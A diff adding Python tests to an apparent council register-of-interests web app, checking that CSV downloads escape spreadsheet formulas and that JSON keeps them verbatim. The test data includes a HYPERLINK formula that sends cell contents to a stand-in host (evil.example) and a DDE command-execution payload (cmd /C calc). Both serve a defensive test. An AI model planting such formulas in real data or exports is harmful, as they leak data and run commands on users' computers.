@@ -212,3 +212,36 @@ def test_the_popolo_export_lists_councillors_terms_and_committees(client, member
 def test_gift_values_show_in_pounds(client, member):
     gift(member, value_pence=12345)
     assert "£123.45" in body(client.get(reverse("gifts-council", args=[member.council.slug])))
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1, "Click")', "+cmd|' /C calc'!A0"]
+
+
+def csv_rows(client, name, council):
+    return list(csv.DictReader(io.StringIO(body(client.get(reverse(name, args=[council]))))))
+
+
+def test_formulas_typed_into_a_register_open_as_text_in_the_csv_downloads(client, member):
+    hyperlink, command = FORMULAS
+    interest(member, employer=hyperlink, position=command)
+    interest(member, category="sponsorship", body_name="@SUM(A1:A9)", details="-2+3")
+    gift(member, donor_name=hyperlink, description=command, occasion="=1+1")
+    council = member.council.slug
+
+    interests = csv_rows(client, "register-csv", council)
+    employment = next(r for r in interests if r["category"] == "employment")
+    sponsorship = next(r for r in interests if r["category"] == "sponsorship")
+    assert (employment["employer"], employment["position"]) == ("'" + hyperlink, "'" + command)
+    assert (sponsorship["body_name"], sponsorship["details"]) == ("'@SUM(A1:A9)", "'-2+3")
+
+    (row,) = csv_rows(client, "gifts-csv", council)
+    assert (row["donor_name"], row["description"]) == ("'" + hyperlink, "'" + command)
+    assert row["occasion"] == "'=1+1"
+    assert row["value_pence"] == "7500"
+
+
+def test_the_json_downloads_keep_formula_like_text_exactly_as_typed(client, member):
+    hyperlink, _ = FORMULAS
+    gift(member, donor_name=hyperlink)
+    data = json.loads(body(client.get(reverse("gifts-json", args=[member.council.slug]))))
+    assert data["gifts"][0]["donor_name"] == hyperlink
